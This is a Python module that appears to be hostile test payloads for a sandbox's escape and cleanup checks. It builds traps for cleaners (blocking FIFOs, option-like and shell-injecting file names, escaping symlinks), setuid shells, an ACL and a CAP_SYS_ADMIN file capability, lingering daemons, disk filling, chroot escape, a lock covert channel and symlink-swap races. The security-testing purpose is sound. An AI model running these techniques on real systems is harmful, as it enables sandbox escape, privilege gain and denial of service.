"""Surface D, inside: trees that harm who cleans them, files that outlive their run; and, for controls, cleaners as they are often written."""

import ctypes
import fcntl
import os
import signal
import stat
import struct
import subprocess
import sys
import time

from nodewrap.escape.hostile.common import LIBC, call, in_child, read, say

NOBODY = 0xFFFFFFFF
EXCHANGE = 2  # renameat2(2)
NEWUSER, NEWNS = 0x10000000, 0x20000
FIFO = "fifo"  # what a cleaner that has been there has taken away


def wait():
    say("ready")
    sys.stdin.read()


# ---- trees ----


def fifo(*places):
    """One here and in each of these directories; then wait for the end of stdin."""
    for place in (".", *places):
        if place != ".":
            os.makedirs(place, exist_ok=True)
        os.mkfifo(f"{place}/{FIFO}")
    wait()


def deep(name, levels):
    """A chain of directories of that name, with a FIFO at its bottom."""
    for _ in range(int(levels)):
        os.mkdir(name)
        os.chdir(name)
    os.mkfifo(FIFO)


def crowd(count):
    """So many entries with long names that no command line takes them."""
    for number in range(int(count)):
        os.symlink("nothing", f"{number:05}{'x' * 245}")
    os.mkfifo(FIFO)


def odd_names():
    """FIFOs with names, and below directories with names, that break what handles names as text, lines or options."""
    names = [b"a\nb", b"\x1b]0;x\x07", b"\xff\xfe", b"\xed\xb3\xbf", "\u202egpj.exe".encode()]  # also no UTF-8, a surrogate, right to left
    names += [b"-rf", b"--", b" ", b"*", b"n" * 255, b"\\", b"'\"$(id)"]
    for number, name in enumerate(names):
        os.mkfifo(name)
        os.makedirs(b"%d/%s" % (number, name))
        os.mkfifo(b"%d/%s/%s" % (number, name, FIFO.encode()))


def closed():
    """FIFOs in directories that their owner cannot read, pass, or list; a sticky one."""
    for mode in (0, 0o300, 0o400, 0o600, 0o1777):
        os.mkdir(f"mode{mode:o}")
        os.mkfifo(f"mode{mode:o}/{FIFO}")
        os.chmod(f"mode{mode:o}", mode)


def links(secret, name):
    """Ways out of the outputs: absolute, by .., through a link to a directory, by /proc."""
    os.symlink(secret, "absolute")
    os.symlink(f"../{name}", "above")
    os.symlink("..", "up")
    os.makedirs("one/two")
    os.symlink(f"../../../{name}", "one/two/far")
    os.symlink("one/two", "inner")
    os.symlink(f"inner/../../../{name}", "chain")
    os.symlink(f"/proc/self/cwd/../{name}", "process")


def specials():
    """What blocks or surprises who reads outputs."""
    import socket

    os.mkfifo(FIFO)
    os.makedirs("below")
    os.mkfifo("below/fifo")
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind("socket")
    return whiteout()


def whiteout():
    """overlayfs' sign for "deleted": a device of number 0, 0, which everybody may make (mknod(2), Linux 5.8)."""
    try:
        os.mknod("whiteout", stat.S_IFCHR | 0o600, os.makedev(0, 0))
        return "made"
    except OSError as wrong:
        return wrong.strerror


def setids():
    """A shell that gives its owner's rights to everybody."""
    said = []
    data = read("/bin/sh", 1 << 24)
    for mode in (0o4755, 0o2755):
        name = f"shell{mode:o}"
        with open(name, "wb") as file:
            file.write(data)
        try:
            os.chmod(name, mode)
            said.append("set")
        except OSError as wrong:
            said.append(str(wrong.strerror))
    return said


def acls(*uids):
    """A directory whose future files are another one's too, and a file that is."""
    os.mkdir("shared")
    with open("file", "w") as file:
        file.write("mine")
    for uid in (*map(int, uids), os.getuid()):  # in a user namespace only its own ids can be named
        entries = ((1, 7, NOBODY), (2, 7, uid), (4, 5, NOBODY), (16, 7, NOBODY), (32, 5, NOBODY))
        entry = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *one) for one in entries)
        try:
            os.setxattr("shared", "system.posix_acl_default", entry)
            os.setxattr("file", "system.posix_acl_access", entry)
            os.mkdir("shared/heir")
            return f"given to {uid}"
        except OSError as wrong:
            say(wrong.strerror)
    return None


def capabilities():
    """A program with capabilities, for whoever is root of the user namespace that we make (capabilities(7), version 3)."""
    with open("program", "wb") as file:
        file.write(b"#!/bin/sh\n")

    def give():
        ids = os.getuid(), os.getgid()
        call(LIBC.unshare, NEWUSER)
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {ids[0]} 1"), ("gid_map", f"0 {ids[1]} 1")):
            with open(f"/proc/self/{name}", "w") as file:
                file.write(text)
        os.setxattr("program", "security.capability", struct.pack("<6I", 0x03000001, 1 << 21, 0, 0, 0, 0))  # CAP_SYS_ADMIN, effective
        return "given"

    return in_child(give)


# ---- what outlives ----


def leave(*fds):
    """The payload's session, and its descriptors."""
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2, *fds):
        os.dup2(null, fd)


def again(name):
    """A daemon that makes a FIFO as soon as there is none."""
    if os.fork():
        return
    leave()
    end = time.monotonic() + 5
    while time.monotonic() < end:
        try:
            os.mkfifo(name)
        except OSError:
            pass
        time.sleep(0.002)
    os._exit(0)


def litter(name, *places):
    """A file in each directory that everybody may write to."""
    said = []
    for place in places:
        try:
            with open(f"{place}/{name}", "w") as file:
                file.write(name)
            said.append(place)
        except OSError:
            pass
    return f"written in {', '.join(said) or 'none'}"


def hold_deleted(mebibytes):
    """A daemon holds a large file that has no name any more."""
    with open("large", "wb") as file:
        for _ in range(int(mebibytes)):
            file.write(bytes(1 << 20))
        file.flush()
        os.unlink("large")
        if os.fork() == 0:
            leave()
            time.sleep(30)
            os._exit(0)


def fill(place, mebibytes, files):
    """All room and all inodes of a directory's file system, as far as that goes."""
    said = []
    try:
        with open(f"{place}/fill", "wb", buffering=0) as file:
            for _ in range(int(mebibytes) * 16):
                file.write(bytes(1 << 16))
    except OSError as wrong:
        said.append(str(wrong.strerror))
    try:
        for number in range(int(files)):
            os.close(os.open(f"{place}/fill{number}", os.O_CREAT | os.O_WRONLY, 0o600))
    except OSError as wrong:
        said.append(str(wrong.strerror))
    say(f"filled: {said}")
    sys.stdin.read()


def pin():
    """A daemon in mount and user namespaces of its own, which a bind mount of themselves holds. Says their number."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        try:
            call(LIBC.unshare, NEWUSER | NEWNS)
            open("pin", "w").close()
            LIBC.mount(b"/proc/self/ns/user", b"pin", None, ctypes.c_ulong(4096), None)
        except OSError:
            pass
        os.write(writer, str(os.stat("/proc/self/ns/mnt").st_ino).encode())
        leave(writer)
        time.sleep(30)
        os._exit(0)
    say(os.read(reader, 100))
    sys.stdin.read()


# ---- ways out ----


def escape(path, jail):
    """Leave the root: by what we inherited; by making another root below where we are (chroot(2)). jail: for the control, a chroot to leave."""
    if jail:
        os.mkdir("jail")
        os.chroot("jail")
    for fd in range(3, 64):
        try:
            with open(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=fd)) as file:
                say(b"by descriptor: " + file.read().encode())
        except OSError:
            pass
    try:
        return in_child(climb, path)
    except OSError as wrong:
        return wrong.strerror


def climb(path):
    if os.geteuid():
        call(LIBC.unshare, NEWUSER)
    os.makedirs("lower", exist_ok=True)
    os.chroot("lower")
    for _ in range(60):
        os.chdir("..")
    os.chroot(".")
    return read(path).decode()


def locked(path):
    """One bit: whether somebody has a lock on a file that we may only read."""
    with open(path, "rb") as file:
        try:
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            return "1"
    return "0"


def lock(path):
    """The other side of it."""
    with open(path, "rb") as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        say("ready")
        signal.pause()


# ---- races ----


def pairs(count, target, kind):
    """Directories (or files) that a link is to take the place of, while they are being cleaned."""
    for number in range(int(count)):
        if kind == "directory":
            os.mkdir(f"a{number}")
            os.mkfifo(f"a{number}/{FIFO}")
        else:
            open(f"a{number}", "w").close()
        os.symlink(target, f"b{number}")
    wait()


def swap(top, count):
    """A process of the pilot's that exchanges them for as long as it lives."""
    say("ready")
    end = time.monotonic() + 20
    names = [(f"{top}/a{number}".encode(), f"{top}/b{number}".encode()) for number in range(int(count))]
    while time.monotonic() < end:
        for one, other in names:
            LIBC.renameat2(-100, one, -100, other, EXCHANGE)


# ---- for controls: cleaners as they are often written ----


def sweep(top, mark="", seconds="0"):
    """Take away FIFOs, looking at each name before using it; again until mark is gone or the time is over."""
    end = time.monotonic() + float(seconds)
    while True:
        try:
            sweep_once(top)
        except (OSError, RecursionError) as wrong:
            say(f"{type(wrong).__name__}")
        if time.monotonic() > end or (mark and not os.path.lexists(mark)):
            return


def sweep_once(top):
    for entry in os.scandir(top):
        try:
            mode = os.lstat(entry.path).st_mode
            if stat.S_ISDIR(mode):
                sweep_once(entry.path)
            elif stat.S_ISFIFO(mode):
                os.unlink(entry.path)
        except (FileNotFoundError, PermissionError, NotADirectoryError):
            pass


def sweep_by_names(top):
    """As text, told to a log in UTF-8."""
    os.chdir(top)
    for where, _, names in os.walk("."):
        for name in names:
            if stat.S_ISFIFO(os.lstat(f"{where}/{name}").st_mode):
                os.write(1, f"removing {where}/{name}\n".encode())
                os.unlink(f"{where}/{name}")


def sweep_by_pattern(top):
    done = subprocess.run(["/bin/sh", "-c", "rm -f *"], cwd=top, capture_output=True)
    say(done.stderr[:60] or b"done")


def sweep_by_lines(top):
    done = subprocess.run(["/bin/sh", "-c", "find . -type p | xargs rm -f"], cwd=top, capture_output=True)
    say(done.stderr[:60] or b"done")


def give(top, uid, mark="", seconds="0"):
    """chown of what looks like a file or directory, by name; again until mark has that owner or the time is over."""
    end = time.monotonic() + float(seconds)
    while True:
        for name in os.listdir(top):
            try:
                if not os.path.islink(f"{top}/{name}"):
                    os.chown(f"{top}/{name}", int(uid), -1)
            except OSError:
                pass
        if time.monotonic() > end or (mark and os.stat(mark).st_uid == int(uid)):
            return
